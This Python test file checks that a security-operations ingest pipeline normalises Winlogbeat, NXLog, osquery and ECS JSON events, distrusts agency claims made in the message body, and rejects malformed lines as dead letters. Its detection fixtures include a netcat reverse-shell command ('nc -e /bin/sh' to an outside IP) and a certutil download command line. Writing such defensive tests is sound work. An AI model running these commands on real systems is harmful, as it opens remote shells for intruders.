"""JSON documents through the pipeline (format "json"): each shape normalised to ECS, the agency a source vouched
for authoritative over the body, deterministic ids, and every bad line a dead letter with its reason."""

from __future__ import annotations

import copy
import json

import pytest

from collectors.message import RawMessage
from collectors.pipeline import Pipeline, build_context
from detections.sigma.logsource import view_of
from inventory.lookup import Inventory
from soc import ecs
from tests.conftest import make_settings
from tests.ingest_samples import (NXLOG_4688, OSQUERY_EVENT, OSQUERY_SNAPSHOT, WINLOGBEAT7_4625, WINLOGBEAT_4688,
                                  ecs_doc, line, nxlog_4625)

A, B = "so-tttt", "so-yt"


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory):
    settings = make_settings(tmp_path_factory.mktemp("ingest"), SOC__PIPELINE__JSON_MAX_BYTES=4096,
                             SOC__PIPELINE__JSON_MAX_DEPTH=8)
    return Pipeline(build_context(settings, Inventory.load(settings.inventory.path)))


def msg(data: bytes, agency: str = A, peer_port: int = 40000) -> RawMessage:
    return RawMessage(data=data, transport="http", peer="10.9.9.9", peer_port=peer_port, format="json",
                      agency=agency)


def test_winlogbeat_8_and_7_documents_end_in_the_evtx_shape(pipeline):
    doc = pipeline.process(msg(line(WINLOGBEAT_4688)))
    assert doc["event"]["dataset"] == "system.security" and doc["event"]["action"] == "created-process"
    # The 4688 aliases Sigma's process_creation rules read, as on the EVTX path.
    data = doc["winlog"]["event_data"]
    assert data["Image"] == data["NewProcessName"] and data["ParentImage"] == "C:\\Windows\\System32\\cmd.exe"
    assert doc["process"]["command_line"].startswith("certutil.exe -urlcache")
    assert doc["@timestamp"] == "2024-05-02T02:14:07.512Z"
    view, key = view_of(doc)
    assert key == ("windows", "security", 4688) and view["Image"].endswith("certutil.exe")

    old = pipeline.process(msg(line(WINLOGBEAT7_4625)))
    assert old["winlog"]["event_id"] == "4625" and old["winlog"]["record_id"] == "884302"
    assert old["event"]["code"] == "4625" and old["event"]["outcome"] == "failure"
    assert old["source"]["ip"] == "203.0.113.45" and old["user"]["name"] == "administrator"


def test_nxlog_events_become_the_same_winlog_shape(pipeline, tmp_path):
    doc = pipeline.process(msg(line(nxlog_4625(7))))
    winlog = doc["winlog"]
    assert winlog["channel"] == "Security" and winlog["event_id"] == "4625" and winlog["record_id"] == "884220"
    assert winlog["computer_name"] == "PC-KT-07.sokhdt.local"
    assert winlog["provider_name"] == "Microsoft-Windows-Security-Auditing"
    # NXLog's own fields are not event data; the event's fields are, as strings.
    assert "EventTime" not in winlog["event_data"] and "Keywords" not in winlog["event_data"]
    assert winlog["event_data"]["LogonType"] == "3" and winlog["event_data"]["IpAddress"] == "203.0.113.45"
    assert winlog["keywords"] == ["Audit Failure"] and doc["event"]["outcome"] == "failure"
    # EventTime is local time without a zone: read in the configured zone (Asia/Ho_Chi_Minh, UTC+7).
    assert doc["@timestamp"] == "2024-05-02T02:14:07.000Z"
    assert doc["event"]["dataset"] == "system.security" and doc["agent"]["type"] == "nxlog"
    proc = pipeline.process(msg(line(NXLOG_4688)))["winlog"]["event_data"]
    assert proc["Image"] == "C:\\Windows\\System32\\whoami.exe" and proc["ParentImage"].endswith("cmd.exe")
    view, key = view_of(pipeline.process(msg(line(NXLOG_4688))))
    assert key == ("windows", "security", 4688) and view["CommandLine"] == "whoami /all"


def test_osquery_results_event_and_snapshot(pipeline):
    doc = pipeline.process(msg(line(OSQUERY_EVENT)))
    assert doc["event"]["dataset"] == "osquery.result" and doc["event"]["module"] == "osquery"
    assert doc["@timestamp"] == "2024-05-02T02:30:00.000Z"
    assert doc["osquery"]["result"]["name"] == "pack_incident-response_process_events"
    assert doc["osquery"]["result"]["columns"]["cmdline"] == "nc -e /bin/sh 203.0.113.9 4444"
    assert doc["process"] == {"pid": 31337, "parent": {"pid": 1022}, "command_line": "nc -e /bin/sh 203.0.113.9 4444",
                              "executable": "/usr/bin/nc"}
    assert doc["user"]["name"] == "www-data" and doc["host"]["name"] == "so-tttt-web-01"
    snap = pipeline.process(msg(line(OSQUERY_SNAPSHOT)))
    assert snap["event"]["action"] == "snapshot" and len(snap["osquery"]["result"]["snapshot"]) == 2


def test_ecs_documents_kept_but_the_agency_is_the_sources(pipeline):
    body = ecs_doc("m1", claim=B)
    doc = pipeline.process(msg(line(body)))
    assert doc["message"] == "custom app event m1" and doc["event"]["dataset"] == "custom.app"
    assert doc["@timestamp"] == "2024-05-01T19:40:00.000Z"  # normalised to UTC
    assert doc["organization"]["id"] == A and doc["organization"]["name"] != "claimed"
    assert doc["soc"]["claimed_agency"] == B
    assert "asset" not in doc["soc"]  # the body's soc.* claims are not taken
    assert json.loads(doc["event"]["original"]) == body
    # No vouched-for agency (a file without --agency): the body's claim is still not believed.
    bare = pipeline.process(msg(line(body), agency=""))
    assert "organization" not in bare and bare["soc"]["claimed_agency"] == B and "unknown_sender" in bare["tags"]


def test_another_agencys_asset_is_not_attached(pipeline):
    # so-tttt-web-01 is an asset of so-tttt: claimed by so-yt's key, the host gets no asset enrichment.
    doc = pipeline.process(msg(line(OSQUERY_EVENT), agency=B))
    assert doc["organization"]["id"] == B and "asset" not in doc.get("soc", {})
    own = pipeline.process(msg(line(OSQUERY_EVENT), agency=A))
    assert own["organization"]["id"] == A


def test_ids_are_deterministic_per_agency_and_line(pipeline):
    data = line(WINLOGBEAT_4688)
    first = pipeline.process(msg(data))["event"]["id"]
    replay = pipeline.process(msg(data, peer_port=1))  # another connection, same agency
    assert replay["event"]["id"] == first
    moved = RawMessage(data=data, transport="http", peer="10.1.1.1", format="json", agency=A)
    assert pipeline.process(moved)["event"]["id"] == first  # the collector's address changed: same event
    assert pipeline.process(msg(data, agency=B))["event"]["id"] != first


BAD = [
    (b"{not json", "bad_json"),
    (b"[1, 2]", "not_an_object"),
    (b'"a string"', "not_an_object"),
    (b'{"a": NaN}', "bad_json"),
    (b'{"a":' * 20 + b"1" + b"}" * 20, "too_deep"),
    (b'{"pad": "' + b"x" * 5000 + b'"}', "too_large"),
    (b'{"hello": "world"}', "unknown_shape"),
    (b'{"msg": "\xff\xfe"}', "invalid_utf8"),
    (b"   ", "empty"),
    (json.dumps({"@timestamp": "yesterday"}).encode(), "bad_timestamp"),
    (json.dumps({"@timestamp": "2024-05-02T00:00:00Z", "event": "x"}).encode(), "bad_shape"),
    (json.dumps({"EventID": "abc", "Channel": "Security"}).encode(), "bad_event_id"),
]


def test_bad_lines_become_dead_letters_with_reasons(pipeline):
    result = pipeline.process_batch([msg(data) for data, _ in BAD] + [msg(line(OSQUERY_EVENT))])
    assert len(result.events) == 1
    reasons = [letter.reason.split(":")[0] for letter in result.dead_letters]
    assert reasons == [kind for _, kind in BAD]
    for letter, (data, _) in zip(result.dead_letters, BAD):
        assert letter.source == f"http://{A}@10.9.9.9:40000"
        assert letter.raw == data[: 2 * 1024 * 1024]


def test_wrongly_typed_fields_never_crash(pipeline):
    """Every field of each sample replaced by values of other types: an event or a dead letter with a closed
    reason, never an internal error."""
    weird = [None, 7, -1.5, True, [], {}, [1, {"x": None}], "", "-"]
    samples = [WINLOGBEAT_4688, WINLOGBEAT7_4625, nxlog_4625(1), NXLOG_4688, OSQUERY_EVENT, OSQUERY_SNAPSHOT,
               ecs_doc("w", claim=B)]
    messages = []
    for sample in samples:
        paths = [(k,) for k in sample] + [(k, j) for k, v in sample.items() if isinstance(v, dict) for j in v]
        for path in paths:
            for value in weird:
                doc = copy.deepcopy(sample)
                node = doc
                for part in path[:-1]:
                    node = node[part]
                node[path[-1]] = value
                messages.append(msg(line(doc)))
    result = pipeline.process_batch(messages)
    internal = [letter.reason for letter in result.dead_letters if letter.reason.startswith("internal_error")]
    assert not internal, internal[:5]
    assert len(result.events) + len(result.dead_letters) == len(messages)
    for event in result.events:
        assert isinstance(event["@timestamp"], str) and ecs.get(event, "organization.id") == A
